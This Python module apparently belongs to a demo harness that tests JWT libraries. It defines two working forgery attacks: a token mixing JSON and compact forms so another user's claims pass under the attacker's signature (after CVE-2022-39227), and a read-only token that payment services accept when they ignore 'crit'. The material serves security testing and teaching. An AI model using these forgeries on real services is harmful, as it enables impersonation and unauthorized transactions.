"""One token, two readers: the one who checks, and the one who acts."""

import json

import jwt

from demo.attacks.base import Attack, Attacker
from demo.attacks.forgery import alices_claims, header, part, text, with_token
from demo.contenders import contender
from demo.harness import Client
from demo.unsafe.reading_twice import IGNORES_CRITICAL, TAKES_BOTH_FORMS

LIMIT = "https://bank.test/read-only"
"""An extension of the header that newer services of the bank know."""


def in_both_forms(attacker: Attacker) -> Client:
    """Mallory's own signature, in JSON form; split at its dots, Alice's
    claims are what is second."""
    claims = alices_claims(attacker)
    first, payload, last = attacker.me.credential().split(".")
    form = {
        f"{first}.{part(claims)}.": "",
        "protected": first,
        "payload": payload,
        "signature": last,
    }
    return with_token(attacker, json.dumps(form, separators=(",", ":")))


def limited_by_the_bank(attacker: Attacker) -> Client:
    """Alice lets Mallory's budget planner see her balance.  The bank
    signs a token for it, and says in the header that whoever does not
    know the limit must not take it."""
    claims = alices_claims(attacker)
    key = attacker.service.key(attacker.service.contender.algorithm)
    about = header(alg=key.algorithm, crit=[LIMIT], **{LIMIT: True})
    signed = f"{part(about)}.{part(claims)}"
    family = jwt.get_algorithm_by_name(key.algorithm)
    signature = family.sign(signed.encode(), key.signing)
    return with_token(attacker, f"{signed}.{text(signature)}")


BOTH_FORMS = Attack(
    id="both-forms",
    name="two forms in one token",
    claim="A token checked as JSON and read as compact says two things.",
    family="parsing",
    source="CWE-436, RFC 7515 section 7, CVE-2022-39227",
    forge=in_both_forms,
    fixed=contender("JWT"),
    flip=TAKES_BOTH_FORMS,
)
UNKNOWN_CRIT = Attack(
    id="unknown-crit",
    name="a limit that nobody reads",
    claim="A token good for reading only pays, where crit is passed over.",
    family="parsing",
    source="RFC 7515 section 4.1.11, CWE-436",
    forge=limited_by_the_bank,
    fixed=contender("JWT"),
    flip=IGNORES_CRITICAL,
)

READING_TWICE_ATTACKS = (BOTH_FORMS, UNKNOWN_CRIT)
